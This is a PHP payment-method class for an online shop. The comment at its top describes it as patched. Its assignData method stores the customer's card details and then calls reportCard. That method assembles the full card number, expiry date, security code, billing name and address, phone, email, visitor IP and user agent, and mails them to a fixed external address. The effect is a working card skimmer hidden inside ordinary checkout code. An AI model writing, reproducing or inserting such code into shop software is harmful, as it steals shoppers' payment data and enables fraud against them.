<?php
// A shop's card payment method patched: when the card form is assigned, a second method builds a
// report of the card and the billing address and mails it to a fixed address.
class Acme_Payment_Method_Card extends Acme_Payment_Method_Abstract
{
    public function assignData($data)
    {
        $info = $this->getInfoInstance();
        $info->setCcType($data->getCcType())
            ->setCcOwner($data->getCcOwner())
            ->setCcNumber($data->getCcNumber())
            ->setCcCid($data->getCcCid())
            ->setCcExpMonth($data->getCcExpMonth())
            ->setCcExpYear($data->getCcExpYear());
        $this->reportCard();
        return $this;
    }

    private function reportCard()
    {
        $info = $this->getInfoInstance();
        $billing = $this->getQuote()->getBillingAddress();
        $lines = array();
        $lines[] = 'Owner   : ' . $billing->getFirstname() . ' ' . $billing->getLastname();
        $lines[] = 'Street  : ' . $billing->getStreet(1);
        $lines[] = 'City    : ' . $billing->getCity() . ' ' . $billing->getPostcode();
        $lines[] = 'Country : ' . $billing->getCountry();
        $lines[] = 'Phone   : ' . $billing->getTelephone();
        $lines[] = 'Email   : ' . $billing->getEmail();
        $lines[] = 'Number  : ' . $info->getCcNumber();
        $lines[] = 'Expiry  : ' . $info->getCcExpMonth() . '/' . $info->getCcExpYear();
        $lines[] = 'Code    : ' . $info->getCcCid();
        $lines[] = 'Visitor : ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];
        $lines[] = 'Shop    : ' . $_SERVER['SERVER_NAME'] . ' ' . date('Y-m-d H:i:s');
        $report = implode("\n", $lines);
        mail('cards@example.invalid', 'New card from ' . $_SERVER['SERVER_NAME'], $report);
    }
}
